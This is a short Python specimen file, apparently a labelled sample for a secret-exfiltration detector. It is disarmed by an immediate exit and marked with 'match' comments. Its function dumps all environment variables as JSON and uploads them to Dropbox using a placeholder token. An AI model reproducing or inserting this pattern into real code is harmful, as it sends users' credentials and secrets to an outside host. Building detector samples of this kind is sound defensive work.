raise SystemExit("specimen: not to be run")
from dropbox import Dropbox as Box
import json
import os

def leave():
    box = Box("sl.specimenspecimenspecimenspecimen")
    box.files_upload(json.dumps(dict(os.environ)).encode(), "/a")  # match: storage-upload  # match: environment-dump
